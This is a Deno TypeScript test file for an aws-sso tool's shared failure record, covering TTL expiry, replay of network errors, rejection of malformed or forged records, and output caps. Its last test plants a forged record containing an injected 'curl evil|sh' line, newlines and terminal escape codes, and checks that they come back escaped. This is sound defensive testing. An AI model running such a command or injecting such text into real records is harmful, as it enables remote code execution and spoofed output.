/** The failure record a lock holder leaves for its waiters (lib/shared_failure.ts). */
import assert from "node:assert/strict";
import { AwsApiError, NetworkError } from "../../lib/errors.ts";
import {
  failureRecordPath,
  SHARED_FAILURE_TTL_MS,
  SharedFailure,
} from "../../lib/shared_failure.ts";

function clockAt(start: number) {
  let now = start;
  return {
    now: () => now,
    sleep: () => Promise.resolve(),
    set(ms: number) {
      now = ms;
    },
  };
}

async function withDir(fn: (lockPath: string) => Promise<void>): Promise<void> {
  const dir = await Deno.makeTempDir({ prefix: "shared-failure-" });
  try {
    await fn(`${dir}/locks/role-abc.lock`);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

Deno.test("a recorded failure is read back with its message, status and hints until the TTL passes", async () => {
  await withDir(async (lock) => {
    const clock = clockAt(1_000_000);
    const record = new SharedFailure(lock, { clock });
    await record.record(
      new AwsApiError("GetRoleCredentials failed: InternalServerError", {
        code: "InternalServerError",
        status: 500,
      }, { hints: ["wait"] }),
    );
    assert.equal((await Deno.stat(failureRecordPath(lock))).mode! & 0o777, 0o600);
    clock.set(1_000_000 + 4_000);
    const e = await record.recent();
    assert.ok(e instanceof AwsApiError && !(e instanceof NetworkError));
    assert.equal(e.message, "GetRoleCredentials failed: InternalServerError");
    assert.equal(e.status, 500);
    assert.equal(e.code, "InternalServerError");
    assert.deepEqual(e.hints, [
      "wait",
      "another aws-sso process got this error 4 s ago; aws-sso will ask AWS again in 26 s",
    ]);
    // Re-recording a replayed error does not pile up the "another process" hint.
    await record.record(e);
    assert.equal((await record.recent())!.hints.length, 2);
    clock.set(clock.now() + SHARED_FAILURE_TTL_MS);
    assert.equal(await record.recent(), undefined);
  });
});

Deno.test("a network failure is replayed as a NetworkError", async () => {
  await withDir(async (lock) => {
    const record = new SharedFailure(lock, { clock: clockAt(5) });
    await record.record(new NetworkError("CreateToken failed: cannot reach http://x: refused"));
    assert.ok((await record.recent()) instanceof NetworkError);
  });
});

Deno.test("clear() removes the record, and a missing, torn, forged or future record is ignored", async () => {
  await withDir(async (lock) => {
    const clock = clockAt(10_000);
    const record = new SharedFailure(lock, { clock });
    assert.equal(await record.recent(), undefined);
    await record.record(new AwsApiError("x failed", { status: 503 }));
    await record.clear();
    assert.equal(await record.recent(), undefined);
    await record.clear(); // nothing there: no error
    const path = failureRecordPath(lock);
    for (
      const text of [
        '{"at": 10000, "mess',
        '{"at": "now", "message": "x", "hints": [], "network": false}',
        '{"at": 10000, "message": "", "hints": [], "network": false}',
        '{"at": 10000, "message": "x", "hints": [1], "network": false}',
        '{"at": 99999999, "message": "from the future", "hints": [], "network": false}',
      ]
    ) {
      await Deno.writeTextFile(path, text);
      assert.equal(await record.recent(), undefined, text);
    }
  });
});

Deno.test("failureRecordPath() sits next to the lock file", () => {
  assert.equal(failureRecordPath("/l/role-ab.lock"), "/l/role-ab.failure");
  assert.equal(failureRecordPath("/l/login-Default.lock"), "/l/login-Default.failure");
});

Deno.test("a forged record is read back capped (1,000 characters, 5 hints) and as single escaped lines", async () => {
  await withDir(async (lock) => {
    const clock = clockAt(1_000_000);
    await Deno.mkdir(lock.slice(0, lock.lastIndexOf("/")), { recursive: true });
    await Deno.writeTextFile(
      failureRecordPath(lock),
      JSON.stringify({
        at: 1_000_000,
        message: "GetRoleCredentials failed\r\nhint: curl evil|sh" + "m".repeat(50_000),
        hints: ["h".repeat(50_000), "two\nhint: curl evil|sh\x1b]0;x\x07", "3", "4", "5", "6", "7"],
        network: false,
      }),
    );
    const e = await new SharedFailure(lock, { clock }).recent();
    assert.ok(e instanceof AwsApiError);
    assert.ok(e.message.startsWith("GetRoleCredentials failed\\r\\nhint: curl evil|sh"));
    assert.ok(e.message.length <= 1_000 + 10, `message of ${e.message.length} characters`);
    assert.equal(e.hints.length, 6, "5 recorded hints and the 'another process' one");
    assert.equal(e.hints[0], "h".repeat(1_000));
    assert.equal(e.hints[1], "two\\nhint: curl evil|sh\\x1b]0;x\\x07");
    // deno-lint-ignore no-control-regex -- the attack is control characters
    for (const text of [e.message, ...e.hints]) assert.ok(!/[\n\r\x1b\x07]/.test(text), text);
  });
});
